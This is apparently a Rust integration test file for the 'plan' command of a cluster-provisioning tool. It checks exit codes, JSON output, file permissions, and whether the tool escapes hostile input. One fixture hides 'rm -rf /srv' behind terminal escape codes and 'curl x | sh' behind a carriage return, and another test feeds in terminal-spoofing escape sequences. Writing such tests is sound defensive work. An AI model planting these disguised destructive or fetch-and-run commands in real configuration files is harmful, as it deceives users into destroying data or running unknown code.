//! `plan`: what is shown, written and answered.

use std::os::unix::fs::PermissionsExt as _;

use mullion_catalog::Catalog;
use mullion_plan::{Discover as _, Documents, Observed, Perform as _, Wanted, plan};
use mullion_render::{Cgroups, Footing, Ground};
use mullion_spec::draft::{Draft, Surroundings};
use mullion_spec::source::Source;
use mullion_testkit::World;

use crate::Bench;

const FILE: &str = "machines: {linux: 1, windows: 1}\nmetadata: {name: demo}\n";

const GROUND: Ground = Ground {
    footing: Footing::SystemContainer,
    cgroups: Cgroups::V2,
    can_raise_limits: true,
    has_swap: false,
    has_resolver: true,
};

/// The facts of a world in which the plan was carried out.
fn facts_when_done(file: &str) -> Observed {
    let draft = Draft::read(Source::new("f", file), &Surroundings::default());
    let model = Catalog::builtin().judge(draft).model.unwrap();
    let world = World::default().with_ground(GROUND);
    let wanted = Wanted::of(&model);
    let observed = world.observe(model.cluster()).unwrap();
    let documents = Documents::render(&model, &wanted, &observed);
    for step in plan(&wanted, &observed, &documents).steps() {
        world.perform(step, &mullion_plan::Unattended).unwrap();
    }
    world.observe(model.cluster()).unwrap()
}

#[test]
fn nothing_to_do_is_one_line() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    bench.write(
        "facts.json",
        serde_json::to_string(&facts_when_done(FILE)).unwrap(),
    );
    for arguments in [
        &["plan", "--facts", "facts.json"][..],
        &["plan", "--facts", "facts.json", "--detailed-exitcode"],
    ] {
        // A variable that the run reads would have a line, and facts stand for the machines.
        let mut command = bench.command();
        let command = command.env_remove("MULLION_PLACE").args(arguments);
        let ran = crate::ran(command.output().unwrap());
        assert_eq!(ran.code, 0, "{}", ran.err);
        assert_eq!(
            ran.out,
            "nothing to do: cluster `demo` is as the file says\n"
        );
    }
}

#[test]
fn changes_pending_have_an_exit_code_for_who_asks() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    assert_eq!(bench.run(&["plan"]).code, 0);
    assert_eq!(bench.run(&["plan", "--detailed-exitcode"]).code, 8);
    assert_eq!(
        bench.run(&["plan", "--detailed-exitcode", "--json"]).code,
        8
    );
}

#[test]
fn a_changed_file_changes_only_what_it_says() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE.replace("linux: 1", "linux: 2"));
    bench.write(
        "facts.json",
        serde_json::to_string(&facts_when_done(FILE)).unwrap(),
    );
    let ran = bench.run(&["plan", "--facts", "facts.json", "--json"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let document: serde_json::Value = serde_json::from_str(&ran.out).unwrap();
    let machines: std::collections::BTreeSet<_> = document["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|step| step["machine"].as_str())
        .collect();
    assert_eq!(machines, ["lin2"].into(), "the others stay as they are");
}

#[test]
fn what_is_in_the_way_is_told_with_its_way_out() {
    let bench = Bench::new();
    bench.write(
        "cluster.yaml",
        format!("{FILE}kubernetes: {{version: \"1.35\"}}\n"),
    );
    bench.write(
        "facts.json",
        serde_json::to_string(&facts_when_done(FILE)).unwrap(),
    );
    let ran = bench.run(&["plan", "--facts", "facts.json"]);
    assert_eq!(ran.code, 5, "{}", ran.out);
    assert!(
        ran.err.contains("1.36.4") && ran.err.contains("hint:"),
        "{}",
        ran.err
    );
}

#[test]
fn the_plan_and_its_picture_are_written_whole() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    let ran = bench.run(&["plan", "--out", "plan.json", "--graph", "plan.svg"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let saved = bench.read("plan.json");
    let again = bench.run(&["plan", "--out", "again.json"]);
    assert_eq!(again.code, 0, "{}", again.err);
    assert_eq!(bench.read("again.json"), saved, "the same bytes each time");
    let saved: mullion_plan::SavedPlan = serde_json::from_str(&saved).unwrap();
    let shown = bench.run(&["plan", "--json"]);
    let shown: serde_json::Value = serde_json::from_str(&shown.out).unwrap();
    let steps = shown["steps"].as_array().unwrap();
    assert_eq!(steps.len(), saved.steps.len());
    for (step, saved) in steps.iter().zip(&saved.steps) {
        assert_eq!(step["action"], saved.action, "{}", saved.id);
    }
    let mode = bench.path().join("plan.json").metadata().unwrap();
    assert_eq!(mode.permissions().mode() & 0o777, 0o600);
    let picture = bench.read("plan.svg");
    assert!(picture.starts_with("<svg") && picture.trim_end().ends_with("</svg>"));
    assert!(picture.contains("win1") && picture.contains("<path"));
    let ran = bench.run(&["plan", "--out", "no/such/folder/plan.json"]);
    assert_eq!(ran.code, 4);
    assert!(ran.err.contains("no/such/folder/plan.json"), "{}", ran.err);
}

#[test]
fn the_files_that_are_written_are_not_those_that_are_read() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    for arguments in [
        &["plan", "--out", "cluster.yaml"][..],
        &["plan", "--graph", "./cluster.yaml"],
        &["plan", "--out", "same", "--graph", "same"],
    ] {
        let ran = bench.run(arguments);
        assert_eq!(ran.code, 2, "{arguments:?}");
        assert!(ran.err.contains("named twice"), "{}", ran.err);
    }
    assert_eq!(bench.read("cluster.yaml"), FILE);
    assert!(!bench.path().join("same").exists());
}

#[test]
fn past_durations_are_told_where_they_are_known() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    let state = bench.path().join(".local/state/mullion");
    fs_err::create_dir_all(&state).unwrap();
    assert!(!bench.run(&["plan"]).out.contains("before"));
    let timings = "{\"init/nspawn-linux-control-plane\": 11500, \"init\": 141}";
    fs_err::write(state.join("timings.json"), timings).unwrap();
    let total = "by what earlier runs took: about 11 s";
    let ran = bench.run(&["plan"]);
    assert!(ran.out.contains(total), "{}", ran.out);
    assert!(!ran.out.contains("before"), "{}", ran.out);
    let ran = bench.run(&["plan", "-v"]);
    assert!(ran.out.contains(total), "{}", ran.out);
    assert!(ran.out.contains("took 11 s before"), "{}", ran.out);
    fs_err::write(state.join("timings.json"), "no").unwrap();
    assert_eq!(bench.run(&["plan"]).code, 4);
}

#[test]
fn facts_that_are_none_are_refused() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    bench.write("facts.json", "{\"version\": \"tomorrow\"}");
    let ran = bench.run(&["plan", "--facts", "facts.json"]);
    assert_eq!(ran.code, 2);
    assert!(
        ran.err.contains("`facts.json` does not hold facts"),
        "{}",
        ran.err
    );
    assert_eq!(bench.run(&["plan", "--facts", "gone.json"]).code, 2);
}

#[test]
fn the_plan_says_what_and_why_by_stage_and_machine() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    let ran = bench.run(&["plan"]);
    insta::assert_snapshot!(ran.out);
}

/// A file of somebody else: two commands that hide what they do, and a value that would clear the screen.
const HOSTILE: &str = r#"
metadata: {name: demo}
machines:
  - {name: cp, role: control-plane}
  - name: lin
    before:
      - run: "echo ok\e[8m\u202e\nrm -rf /srv\e[0m"
      - run: apt-get install -y nfs-common
    after:
      - run: "true #\rcurl x | sh"
"#;

#[test]
fn promise_12_plan_prints_the_users_commands_as_they_will_run() {
    let bench = Bench::new();
    bench.write("cluster.yaml", HOSTILE);
    let nothing = serde_json::to_string(&Observed::default()).unwrap();
    bench.write("facts.json", nothing);
    let ran = bench.run(&["plan", "--facts", "facts.json"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    for shown in [
        r"$ $'echo ok\x1b[8m\u202e\nrm -rf /srv\x1b[0m'",
        "$ apt-get install -y nfs-common",
        r"run `$'true #\rcurl x | sh'` (from `after`) on lin1",
    ] {
        assert!(ran.out.contains(shown), "{shown} is not in {}", ran.out);
    }
    let is_plain = |text: &str| !text.contains(mullion_wire::text::is_hostile);
    assert!(is_plain(&ran.out) && is_plain(&ran.err), "{}", ran.out);

    let ran = bench.run(&["plan", "--facts", "facts.json", "--json"]);
    assert!(is_plain(&ran.out), "{}", ran.out);
    let document: serde_json::Value = serde_json::from_str(&ran.out).unwrap();
    let runs: Vec<_> = document["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|step| step["action"]["commands"].as_array())
        .flatten()
        .map(|command| command["run"].as_str().unwrap())
        .collect();
    assert_eq!(
        runs,
        [
            "echo ok\u{1b}[8m\u{202e}\nrm -rf /srv\u{1b}[0m",
            "apt-get install -y nfs-common",
            "true #\rcurl x | sh"
        ],
        "programs get the commands themselves"
    );
}

#[test]
fn promise_12_what_a_file_says_cannot_steer_the_terminal() {
    let bench = Bench::new();
    for value in [
        r"a\e[2Jb",
        r"a\x9b2Jb",
        r"a\u202eb",
        r"a\e]0;t\ab",
        r"a\rb",
        r"a\nerror: b",
    ] {
        bench.write(
            "cluster.yaml",
            format!("metadata: {{name: \"{value}\"}}\n\"{value}\": 1\n"),
        );
        for arguments in [&["validate"][..], &["plan"], &["validate", "--json"]] {
            let ran = bench.run(arguments);
            assert_eq!(ran.code, 3, "{}", ran.err);
            let text = ran.out + &ran.err;
            let hostile = text.contains(mullion_wire::text::is_hostile);
            assert!(!hostile, "{text:?}");
            assert!(
                !text.lines().any(|line| line.starts_with("error: b")),
                "{text}"
            );
        }
    }
}

/// An archive of the image `registry.example/app:1`, as `docker save` writes it.
fn saved(config: &str) -> Vec<u8> {
    let tags = r#"["registry.example/app:1"]"#;
    let text = format!(r#"[{{"Config":"{config}","RepoTags":{tags},"Layers":[]}}]"#);
    let mut header = tar::Header::new_gnu();
    header.set_size(text.len() as u64);
    header.set_mode(0o644);
    let mut archive = tar::Builder::new(Vec::new());
    let added = archive.append_data(&mut header, "manifest.json", text.as_bytes());
    added.unwrap();
    archive.into_inner().unwrap()
}

#[test]
fn promise_10_a_template_depends_on_what_is_in_an_archive_of_images() {
    let bench = Bench::new();
    let text = "metadata: {name: demo}\nmachines: {linux: 1}\nimages: [{ref: \"registry.example/app:1\", archive: app.tar}]\n";
    bench.write("cluster.yaml", text);
    let template = |config: &str| {
        bench.write("app.tar", saved(config));
        let ran = bench.run(&["plan", "--json"]);
        assert_eq!(ran.code, 0, "{}", ran.err);
        let document: serde_json::Value = serde_json::from_str(&ran.out).unwrap();
        let steps = document["steps"].as_array().unwrap();
        let mut ids = steps.iter().filter_map(|step| step["id"].as_str());
        let id = ids.find(|id| id.starts_with("template/"));
        id.unwrap().to_owned()
    };
    let first = template("one");
    assert_ne!(template("two"), first);
    assert_eq!(template("one"), first);
}

#[test]
fn promise_02_facts_that_are_a_pipe_are_refused_and_not_waited_for() {
    let bench = Bench::new();
    bench.write("cluster.yaml", FILE);
    let pipe = bench.path().join("pipe");
    let made = std::process::Command::new("mkfifo").arg(&pipe).status();
    assert!(made.unwrap().success());
    let ran = bench.run(&["plan", "--facts", "pipe"]);
    assert_eq!(ran.code, 2, "{}", ran.err);
    assert!(ran.err.contains("a pipe, not a file"), "{}", ran.err);
}
